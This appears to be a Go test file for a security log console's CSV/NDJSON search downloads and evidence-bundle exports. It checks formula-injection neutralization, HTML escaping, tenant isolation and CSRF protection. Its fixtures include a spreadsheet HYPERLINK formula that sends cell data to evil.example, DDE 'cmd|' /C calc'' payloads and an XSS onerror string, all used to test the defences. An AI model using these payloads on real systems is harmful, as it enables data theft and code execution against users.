package web

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/vigilsec/vigil/access"
	"github.com/vigilsec/vigil/event"
)

// Cells a spreadsheet would run as formulas, and one that breaks naive
// CSV quoting.
const (
	csvFormula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	csvPlus    = `+cmd|' /C calc'!A0`
	csvAt      = `@SUM(1+1)*cmd|' /C calc'!A0`
	csvQuotes  = "she said \"hi\", then\nleft"
)

// newExportWorld is a console over a real store and directory with
// evidence bundles (fakeBundles): team-a's events carry CSV formulas,
// quotes and script, team-b's a secret; alice is an analyst of team-a,
// bob a viewer of team-b.
func newExportWorld(t *testing.T) (*consoleWorld, *fakeBundles) {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	_, directory, _ := newTestDirectory(t, dir, "", consoleTeams...)
	l, vkey, db := openLedgerStore(t, dir)
	now := time.Now().UTC()
	evs := []*event.Event{
		{Time: now.Add(-2 * time.Hour), Received: now, Tenant: "team-a", Source: "json", Class: "api_activity",
			Actor: event.Actor{Name: csvFormula}, Action: csvPlus, Message: csvQuotes + " " + xssScript,
			UserAgent: xssAttr, SrcIP: netip.MustParseAddr("203.0.113.7"), Outcome: event.Outcome{Result: csvAt},
			Raw: []byte(`{"note":"-1+2","userAgent":"\"><img src=x onerror=alert(1)>"}`)},
		{Time: now.Add(-90 * time.Minute), Received: now, Tenant: "team-a", Source: "json", Class: "api_activity",
			Actor: event.Actor{Name: "alice"}, Action: "GetObject", Message: strings.Repeat("long ", 60) + "end", Raw: []byte(`{"ok":true}`)},
		{Time: now.Add(-time.Hour), Received: now, Tenant: "team-b", Source: "json", Class: "api_activity",
			Actor: event.Actor{Name: "team-b-secret-actor"}, Action: "ReadSecret", Raw: []byte(`{"secret":"team-b-secret"}`)},
	}
	if _, err := l.Append(ctx, evs); err != nil {
		t.Fatal(err)
	}
	if err := db.Append(ctx, evs); err != nil {
		t.Fatal(err)
	}
	w := &consoleWorld{t: t, seqA: evs[0].Seq, seqB: evs[2].Seq}
	bundles := &fakeBundles{}
	w.h = Handler(Options{Store: db, Ledger: l, LedgerKey: vkey, Access: directory, Exports: bundles,
		Gatherer: prometheus.NewRegistry(),
		Audit: func(_ context.Context, r *access.Record) error {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.records = append(w.records, *r)
			return nil
		}})
	return w, bundles
}

// searchCSRF reads the CSRF token from the search page's forms.
func (w *consoleWorld) searchCSRF(session string) string {
	w.t.Helper()
	m := csrfField.FindStringSubmatch(w.do("GET", "/", session, nil).Body.String())
	if m == nil {
		w.t.Fatal("no CSRF token in the search page")
	}
	return m[1]
}

func TestConsoleSearchDownloads(t *testing.T) {
	w, _ := newExportWorld(t)
	alice := w.login("alice")

	// The search page links to the downloads of its own query, and
	// offers the bundle form.
	page := w.do("GET", "/?q=source:json&from=-24h&columns=time,actor,action,note", alice, nil)
	body := page.Body.String()
	for _, want := range []string{
		`href="/search.csv?columns=time%2Cactor%2Caction%2Cnote&amp;from=-24h&amp;q=source%3Ajson"`,
		`href="/search.ndjson?columns=time%2Cactor%2Caction%2Cnote&amp;from=-24h&amp;q=source%3Ajson"`,
		`action="/exports"`, `name="reason"`, "100000",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("the search page lacks %s", want)
		}
	}
	assertEscaped(t, "search page", body)

	// CSV: a header row, then alice's two events, whole, none of team-b's.
	rec := w.do("GET", "/search.csv?from=-24h", alice, nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("csv: %d %s", rec.Code, rec.Body)
	}
	h := rec.Header()
	if ct := h.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("csv: Content-Type %q", ct)
	}
	if cd := h.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="vigil-search-\d{8}T\d{6}Z\.csv"$`).MatchString(cd) {
		t.Errorf("csv: Content-Disposition %q", cd)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
		t.Errorf("csv: headers %v", h)
	}
	text := rec.Body.String()
	if strings.Contains(text, "team-b") {
		t.Errorf("alice's CSV holds team-b's events:\n%s", text)
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, text)
	}
	if len(rows) != 3 || strings.Join(rows[0], ",") != strings.Join(defaultColumns, ",") {
		t.Fatalf("csv rows: %q", rows)
	}
	col := func(row []string, name string) string {
		for i, c := range rows[0] {
			if c == name {
				return row[i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	// Newest first: the long message, untruncated, then the payloads.
	if m := col(rows[1], "message"); !strings.HasSuffix(m, "end") || strings.Contains(m, "…") {
		t.Errorf("csv: the message is cut: %q", m)
	}
	hostile := rows[2]
	for name, want := range map[string]string{
		"actor":   "'" + csvFormula,
		"action":  "'" + csvPlus,
		"outcome": "'" + csvAt,
		"message": csvQuotes + " " + xssScript, // quoted, not cut apart
		"tenant":  "team-a",
	} {
		if got := col(hostile, name); got != want {
			t.Errorf("csv %s: %q, want %q", name, got, want)
		}
	}
	if tm := col(hostile, "time"); !regexp.MustCompile(`^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ$`).MatchString(tm) {
		t.Errorf("csv time: %q", tm)
	}
	// Every cell a spreadsheet would evaluate is neutralized, wherever
	// it comes from (the document too).
	rec = w.do("GET", "/search.csv?from=-24h&columns=note,actor", alice, nil)
	rows, err = csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("csv: a cell a spreadsheet runs: %q", c)
			}
		}
	}
	if len(rows) != 3 || rows[2][0] != "'-1+2" {
		t.Errorf("csv of the document's field: %q", rows)
	}

	// NDJSON: an object per line, the payloads as JSON strings.
	rec = w.do("GET", "/search.ndjson?from=-24h", alice, nil)
	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "application/x-ndjson" ||
		!strings.HasSuffix(rec.Header().Get("Content-Disposition"), `.ndjson"`) {
		t.Fatalf("ndjson: %d %v", rec.Code, rec.Header())
	}
	text = rec.Body.String()
	if strings.Contains(text, "team-b") {
		t.Errorf("alice's NDJSON holds team-b's events:\n%s", text)
	}
	if strings.Contains(text, "<script>") {
		t.Errorf("ndjson: script unescaped:\n%s", text)
	}
	var objs []map[string]any
	sc := bufio.NewScanner(strings.NewReader(text))
	for sc.Scan() {
		var o map[string]any
		if err := json.Unmarshal(sc.Bytes(), &o); err != nil {
			t.Fatalf("ndjson line %q: %v", sc.Text(), err)
		}
		objs = append(objs, o)
	}
	if len(objs) != 2 {
		t.Fatalf("ndjson: %d objects:\n%s", len(objs), text)
	}
	if objs[1]["actor"] != csvFormula || objs[1]["message"] != csvQuotes+" "+xssScript || objs[1]["tenant"] != "team-a" {
		t.Errorf("ndjson: %v", objs[1])
	}
	if _, err := time.Parse(time.RFC3339Nano, objs[1]["time"].(string)); err != nil {
		t.Errorf("ndjson time: %v", err)
	}

	// A table (stats) downloads its own columns.
	rec = w.do("GET", "/search.csv?from=-24h&q="+url.QueryEscape("* | stats count() as n by tenant"), alice, nil)
	if got := strings.ReplaceAll(rec.Body.String(), "\r\n", "\n"); got != "tenant,n\nteam-a,2\n" {
		t.Errorf("stats csv: %q", got)
	}

	// Narrowing to another tenant widens nothing; bob sees only team-b.
	if rec := w.do("GET", "/search.csv?from=-24h&tenant=team-b", alice, nil); strings.Contains(rec.Body.String(), "team-b") {
		t.Errorf("alice's CSV of tenant=team-b: %s", rec.Body)
	}
	if rec := w.do("GET", "/search.ndjson?from=-24h", w.login("bob"), nil); strings.Contains(rec.Body.String(), "team-a") ||
		!strings.Contains(rec.Body.String(), "team-b-secret-actor") {
		t.Errorf("bob's NDJSON: %s", rec.Body)
	}

	// A bad query is a page, not a file.
	if rec := w.do("GET", "/search.csv?q="+url.QueryEscape("action:("), alice, nil); rec.Code != http.StatusBadRequest ||
		!strings.HasPrefix(rec.Header().Get("Content-Type"), "text/html") || rec.Header().Get("Content-Disposition") != "" {
		t.Errorf("a bad query: %d %v", rec.Code, rec.Header())
	}
	// No session: to the login page.
	if rec := w.do("GET", "/search.csv", "", nil); rec.Code != http.StatusSeeOther {
		t.Errorf("no session: %d", rec.Code)
	}

	// Each download is audited, with what it held.
	w.mu.Lock()
	defer w.mu.Unlock()
	var csvs, ndjsons int
	for _, r := range w.records {
		if r.Action != "search.export" {
			continue
		}
		switch {
		case r.Path == "/search.csv" && strings.HasPrefix(r.Detail, "csv, 2 rows") && r.Actor == "alice" && r.Status == http.StatusOK:
			csvs++
		case r.Path == "/search.ndjson" && strings.HasPrefix(r.Detail, "ndjson, 2 rows") && r.Status == http.StatusOK:
			ndjsons++
		}
	}
	if csvs < 2 || ndjsons < 1 {
		t.Errorf("audited downloads: %d csv, %d ndjson; records %+v", csvs, ndjsons, w.records)
	}
}

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		"":         "",
		"plain":    "plain",
		"=1+1":     "'=1+1",
		"+1+1":     "'+1+1",
		"-1+1":     "'-1+1",
		"@A1":      "'@A1",
		"\t=1":     "'\t=1",
		"\r=1":     "'\r=1",
		"-5":       "-5",
		"+3.5":     "+3.5",
		" =1":      " =1",
		"a=b":      "a=b",
		"'already": "'already",
	} {
		if got := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestConsoleEvidenceBundle(t *testing.T) {
	w, bundles := newExportWorld(t)
	alice := w.login("alice")
	token := w.searchCSRF(alice)
	form := func(csrf, reason string, extra ...string) url.Values {
		v := url.Values{"q": {"source:json"}, "from": {"-24h"}, "hours": {"24"}}
		if csrf != "" {
			v.Set("csrf", csrf)
		}
		if reason != "" {
			v.Set("reason", reason)
		}
		for i := 0; i+1 < len(extra); i += 2 {
			v.Set(extra[i], extra[i+1])
		}
		return v
	}

	// Without the CSRF token: refused, nothing written.
	if rec := w.do("POST", "/exports", alice, form("", "case 12")); rec.Code != http.StatusForbidden {
		t.Errorf("no CSRF: %d", rec.Code)
	}
	if rec := w.do("POST", "/exports", alice, form("wrong", "case 12")); rec.Code != http.StatusForbidden {
		t.Errorf("a wrong CSRF token: %d", rec.Code)
	}
	// Refusals are pages that say why.
	for _, tc := range []struct {
		name   string
		f      url.Values
		status int
		msg    string
	}{
		{"no reason", form(token, ""), http.StatusBadRequest, "needs a reason"},
		{"blank reason", form(token, "   "), http.StatusBadRequest, "needs a reason"},
		{"no start", form(token, "case 12", "from", ""), http.StatusBadRequest, "names the time its events start"},
		{"hours", form(token, "case 12", "hours", "x"), http.StatusBadRequest, "hours"},
		{"too long", form(token, "case 12", "hours", "500"), http.StatusBadRequest, "hours"},
		{"another tenant", form(token, "case 12", "tenant", "team-b"), http.StatusUnprocessableEntity, "nothing exported"},
	} {
		rec := w.do("POST", "/exports", alice, tc.f)
		if rec.Code != tc.status || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/html") ||
			!strings.Contains(rec.Body.String(), `class="error"`) || !strings.Contains(rec.Body.String(), tc.msg) {
			t.Errorf("%s: %d %s", tc.name, rec.Code, rec.Body)
		}
	}
	bundles.mu.Lock()
	if len(bundles.files) != 0 {
		t.Errorf("bundles written by refused requests: %v", bundles.files)
	}
	bundles.mu.Unlock()

	// With both: the export is made, and the page shows its link.
	reason := `case 12 ` + xssScript
	rec := w.do("POST", "/exports", alice, form(token, reason))
	body := rec.Body.String()
	if rec.Code != http.StatusCreated {
		t.Fatalf("bundle: %d %s", rec.Code, body)
	}
	assertEscaped(t, "bundle page", body)
	for _, want := range []string{"vigil verify-bundle --key KEY", "SHA-256", `href="https://example.com/api/v1/exports/`, "Back to the search"} {
		if !strings.Contains(body, want) {
			t.Errorf("the bundle page lacks %q:\n%s", want, body)
		}
	}

	// The same export as the API's, listed there with its link.
	lrec := w.do("GET", "/api/v1/exports", alice, nil)
	var list []exportAnswer
	if err := json.Unmarshal(lrec.Body.Bytes(), &list); err != nil || len(list) != 1 {
		t.Fatalf("exports: %d %s", lrec.Code, lrec.Body)
	}
	e := list[0]
	if e.Query != "source:json" || e.Reason != reason || e.CreatedBy != "alice" || strings.Join(e.Tenants, ",") != "team-a" ||
		e.Events != 3 || e.Link == "" || (e.Expires.Sub(e.Created)-24*time.Hour).Abs() > time.Minute {
		t.Errorf("export: %+v", e)
	}
	if !strings.Contains(body, e.SHA256) || !strings.Contains(body, `/api/v1/exports/`+e.ID+`/bundle?`) {
		t.Errorf("the page does not name the export %s", e.ID)
	}
	// The link opens the bundle.
	if rec := w.do("GET", e.Link, "", nil); rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "bundle of team-a") {
		t.Errorf("the link: %d %s", rec.Code, rec.Body)
	}
	// Bob sees none of it.
	if rec := w.do("GET", "/api/v1/exports", w.login("bob"), nil); strings.Contains(rec.Body.String(), e.ID) {
		t.Errorf("bob sees alice's export: %s", rec.Body)
	}
	// Audited as the API's export is.
	w.mu.Lock()
	defer w.mu.Unlock()
	found := false
	for _, r := range w.records {
		if r.Action == "export" && r.Path == "/exports" && r.Target == "export:"+e.ID && r.Status == http.StatusCreated &&
			strings.Contains(r.Detail, e.SHA256) {
			found = true
		}
	}
	if !found {
		t.Errorf("the export is not audited: %+v", w.records)
	}
}
